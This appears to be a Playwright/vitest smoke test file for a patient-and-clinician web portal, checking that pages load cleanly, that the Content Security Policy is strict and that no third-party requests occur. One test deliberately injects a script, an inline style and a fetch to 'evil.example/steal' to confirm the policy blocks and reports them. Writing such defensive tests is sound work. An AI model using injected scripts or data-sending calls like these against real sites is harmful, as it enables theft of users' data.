import { describe, expect } from 'vitest';
import { type Device, portalTest } from './support/portalTest.ts';

describe('portal smoke', () => {
  for (const device of ['phone', 'desktop'] as const satisfies readonly Device[]) {
    portalTest(
      `T-22: the portal loads on a ${device} with no console error, no CSP violation, nothing third-party`,
      async ({ newUser, portal }) => {
        const user = await newUser(`visitor-${device}`, { device });
        const requests: string[] = [];
        user.page.on('request', (request) => requests.push(request.url()));
        const response = await user.page.reload({ waitUntil: 'load' });
        expect(response?.status()).toBe(200);
        const csp = response?.headers()['content-security-policy'] ?? '';
        expect(csp).toContain("script-src 'self'");
        expect(csp).not.toContain('unsafe-');
        // React rendered something into #root (a blank page would also have no errors).
        await user.page.locator('#root > *').first().waitFor({ state: 'attached' });
        expect((await user.page.locator('#root').textContent())?.trim()).toBeTruthy();
        expect(await user.page.title()).not.toBe('');
        await user.screenshot('loaded');
        expect(user.errors).toEqual([]);
        expect(user.cspViolations).toEqual([]);
        expect(requests.length).toBeGreaterThan(0);
        for (const url of requests) expect(new URL(url).origin, url).toBe(portal.url);
      },
    );
  }

  portalTest(
    'T-22: injected script, inline style and third-party requests are blocked and reported',
    async ({ patient }) => {
      // The harness must see violations, or the smoke tests above prove nothing.
      const scriptRefused = await patient.page.evaluate(() => {
        const script = document.createElement('script');
        try {
          script.textContent = 'window.__ran = true'; // a Trusted Types sink: refused outright
        } catch {
          return true;
        }
        document.head.append(script);
        return false;
      });
      expect(scriptRefused).toBe(true);
      await patient.page.evaluate(() => {
        const style = document.createElement('style');
        style.textContent = 'body { background: red }';
        document.head.append(style);
        void fetch('https://evil.example/steal').catch(() => {});
      });
      await expect
        .poll(() => patient.cspViolations.map((v) => v.directive).sort())
        .toEqual(['connect-src', 'require-trusted-types-for', 'style-src-elem']);
      expect(
        await patient.page.evaluate(() => (window as unknown as { __ran?: boolean }).__ran),
      ).toBeUndefined();
      patient.cspViolations.length = 0; // expected here; any other violation still fails a test
    },
  );

  portalTest(
    'a client-side route deep link serves the portal; patient and clinician are separate browsers',
    async ({ patient, clinician, portal }) => {
      await patient.page.evaluate(() => localStorage.setItem('carekey-e2e-probe', 'patient'));
      expect(await clinician.page.evaluate(() => localStorage.getItem('carekey-e2e-probe'))).toBeNull();
      const deep = await clinician.page.goto(`${portal.url}/some/client/route`);
      expect(deep?.status()).toBe(200);
      expect(deep?.headers()['content-type']).toContain('text/html');
    },
  );
});
